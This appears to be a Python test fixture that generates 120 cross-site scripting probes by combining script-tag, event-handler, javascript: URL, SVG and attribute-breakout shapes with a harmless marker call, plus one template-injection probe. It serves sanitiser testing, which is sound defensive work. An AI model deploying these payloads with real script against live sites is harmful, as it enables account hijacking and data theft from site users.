"""Texts that would run a script if a page took them for markup. Each calls ``hit``."""

CALLS = ("hit()", "window.hit(1)", "top['hit']()", "hit`1`")
SHAPES = (
    "<script>{}</script>",
    "</script><script>{}</script>",
    "</style><script>{}</script>",
    "</title><script>{}</script>",
    "<ScRiPt>{}</sCrIpT>",
    "<script\n>{}</script\n>",
    "--><script>{}</script>",
    "]]><script>{}</script>",
    "<img src=x onerror={}>",
    '"><img src=x onerror="{}">',
    "'><img src=x onerror='{}'>",
    "<svg onload={}>",
    "</svg><svg/onload={}>",
    "<svg><script>{}</script></svg>",
    '<svg><animate onbegin="{}" attributeName=x dur=1s>',
    "<math><mtext></mtext><script>{}</script></math>",
    '<a href="javascript:{}">x</a>',
    "javascript:{}",
    '" onmouseover="{}" x="',
    "' onfocus='{}' autofocus x='",
    "\" style=\"animation-name:x\" onanimationstart=\"{}\" x=\"",
    "<details open ontoggle={}>",
    "<body onload={}>",
    "<iframe srcdoc='<script>parent.{}</script>'></iframe>",
    "<input autofocus onfocus={}>",
    "<video><source onerror={}></video>",
    "<template><script>{}</script></template>",
    "{{{{ self.__init__.__globals__ }}}}<script>{}</script>",
    "${{{}}}<script>{}</script>",
    "\\u003cscript\\u003e{}\\u003c/script\\u003e",
)  # fmt: skip
PAYLOADS = [shape.replace("{}", call) for shape in SHAPES for call in CALLS]
assert len(set(PAYLOADS)) == 120
